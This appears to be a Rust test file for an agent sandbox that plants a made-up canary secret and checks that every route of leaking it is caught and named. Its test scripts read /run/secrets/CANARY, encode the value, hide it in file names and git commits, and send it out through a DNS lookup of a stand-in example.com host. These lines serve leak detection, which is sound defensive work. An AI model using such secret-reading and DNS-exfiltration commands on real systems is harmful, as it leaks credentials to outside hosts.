//! The canary: a made-up secret. The attempt fails wherever it comes out, and only then.

use crate::support::{Lab, Run};

#[track_caller]
fn came_out(run: &Run, place: &str) {
    run.ended_as("policy", 125);
    let error = run.receipt()["error"].clone();
    assert_eq!(error["code"], "E-POLICY", "{run:#?}");
    assert!(error["message"].as_str().unwrap().contains(place), "`{place}`: {error:#}");
}

#[test]
fn a_command_that_leaves_it_alone_succeeds_and_it_is_named_without_its_value() {
    let lab = Lab::new();
    let run = lab
        .task()
        .args(["--canary", "--artifact", "*"])
        .sh("test -n \"$CANARY\" && wc -c </run/secrets/CANARY && echo x >x; ls /run/secrets");
    run.ended_as("succeeded", 0);
    assert!(run.stderr.contains("26\nCANARY"), "{run:#?}");
    let secrets = run.receipt()["secrets"].clone();
    assert_eq!((&secrets[0]["name"], &secrets[0]["source"]), (&"CANARY".into(), &"made".into()), "{secrets:#}");
}

#[test]
fn wherever_it_shows_up_the_attempt_fails_and_the_place_is_named() {
    let lab = Lab::new();
    let task = |script: &str| lab.task().args(["--canary", "--artifact", "art*"]).sh(script);
    came_out(&task("echo $CANARY"), "its output");
    came_out(&task("cat /run/secrets/CANARY >&2"), "its output");
    came_out(&task("for i in 1 2; do printf %s $CANARY | base64; done"), "its output");
    came_out(&task("printf %s $CANARY | od -An -tx1 | tr -d ' \\n'"), "its output");
    came_out(
        &task(
            "python3 -c 'import os,sys,time\nfor c in os.environ[\"CANARY\"]: sys.stdout.write(c); sys.stdout.flush(); time.sleep(0.01)'",
        ),
        "its output",
    );
    came_out(&task("echo \"{\\\"at\\\":\\\"$CANARY\\\"}\" >&$BRIG_EVENTS_FD"), "its events");
    came_out(&task("mkdir a; echo $CANARY >a/b"), "the changed file a/b");
    came_out(&task("printf \"x\\\\0$CANARY\" >blob"), "the changed file blob");
    came_out(&task("echo x >\"name-$CANARY\""), "the changed file name-[redacted:CANARY]");
    came_out(&task("ln -s \"/$CANARY\" link"), "the changed file link");
    came_out(&task("echo $CANARY >art"), "an artifact");
    came_out(&task("mkdir .brig; echo \"[\\\"$CANARY\\\"]\" >.brig/result.json"), "the result");
}

#[test]
fn it_is_seen_where_the_changes_are_not_kept_and_in_names_that_are_asked_for() {
    let lab = Lab::new();
    let run = lab.task().args(["--canary", "--no-changes"]).sh("echo $CANARY >file");
    came_out(&run, "the changed file file");
    assert!(run.receipt()["changes"].is_null());
    let script = "python3 -c 'import os,socket\ntry: socket.getaddrinfo(os.environ[\"CANARY\"] + \".example.com\", 80)\nexcept OSError: pass'";
    let run = lab.task().args(["--canary", "--allow", "example.org"]).sh(script);
    came_out(&run, "the network");
    let receipt = run.receipt().to_string();
    assert!(receipt.contains("[redacted:CANARY].example.com"), "{receipt}");
}

/// A repository with one commit on `main`.
fn repository(lab: &Lab) -> std::path::PathBuf {
    lab.file("repository/file", "one\n");
    let repository = lab.path().join("repository");
    let script = "git init -q -b main && git add -A && git -c user.name=t -c user.email=t@localhost commit -qm one";
    let done = std::process::Command::new("sh").args(["-c", script]).current_dir(&repository).status().unwrap();
    assert!(done.success());
    repository
}

#[test]
fn a_repository_that_the_agent_breaks_hides_nothing_of_it() {
    let lab = Lab::new();
    let repository = repository(&lab);
    let task = lab.task().args(["--canary", "--push-branch", "agent/x", "--repo"]).args([&repository]);
    let run = task.sh("echo $CANARY; echo bad >.git/HEAD");
    came_out(&run, "its output");
    let push = run.receipt()["push"].clone();
    assert_eq!((push["state"].as_str(), push["bundle"].is_null()), (Some("failed"), true), "{push:#}");
    assert!(push["error"].as_str().unwrap().contains("`HEAD` is not a reference"), "{push:#}");
    assert_eq!(run.receipt()["retryable"], false);
}

#[test]
fn what_it_came_out_of_is_pushed_nowhere() {
    let lab = Lab::new();
    let repository = repository(&lab);
    let git = |script: &str| {
        let done = std::process::Command::new("sh").args(["-c", script]).current_dir(&repository).output().unwrap();
        assert!(done.status.success(), "{done:?}");
        String::from_utf8(done.stdout).unwrap()
    };
    let run = lab
        .task()
        .args(["--canary", "--push-branch", "agent/x", "--repo"])
        .args([&repository])
        .sh("echo $CANARY >>file; git commit -qam two");
    came_out(&run, "the changed file file");
    assert_eq!(run.receipt()["push"]["state"], "not_tried", "{run:#?}");
    assert_eq!(git("git branch --list"), "* main\n");
}
